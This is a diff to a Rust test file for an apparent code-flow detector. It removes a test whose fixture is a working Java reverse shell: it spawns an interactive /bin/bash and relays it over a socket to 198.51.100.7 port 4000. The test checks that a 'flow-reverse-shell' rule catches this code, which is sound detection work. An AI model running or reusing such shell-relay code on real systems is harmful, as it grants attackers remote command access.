@@ -1,4 +1,4 @@
-//! Shells between two pumps, what is fetched for the next time, and secrets that nobody has a use for together.
+//! What is fetched for the next time, and secrets that nobody has a use for together.
 
 use super::reached::{has, has_not};
 use super::*;
@@ -8,18 +8,6 @@ use crate::model::Severity;
 fn is_certain(language: Language, code: &str, rule: &str) -> bool {
     let outcome = outcome(language, code);
     flows::judge(&outcome, false).iter().any(|f| f.rule.id == rule && f.certain)
-}
-
-#[test]
-fn a_shell_between_two_pumps_is_tied_to_its_connection() {
-    let code = "class A { public static void main(String[] a) throws Exception {\n\
-                Process p = new ProcessBuilder(\"/bin/bash\", \"-i\").start();\n\
-                Socket s = new Socket(\"198.51.100.7\", 4000);\n\
-                InputStream pi = p.getInputStream(), si = s.getInputStream();\n\
-                OutputStream po = p.getOutputStream(), so = s.getOutputStream();\n\
-                while (true) { so.write(pi.read()); po.write(si.read()); } } }";
-    has(Language::Java, code, "flow-reverse-shell");
-    has_not(Language::Java, &code.replace("\"/bin/bash\", \"-i\"", "\"git\", \"version\""), "flow-reverse-shell");
 }
 
 #[test]
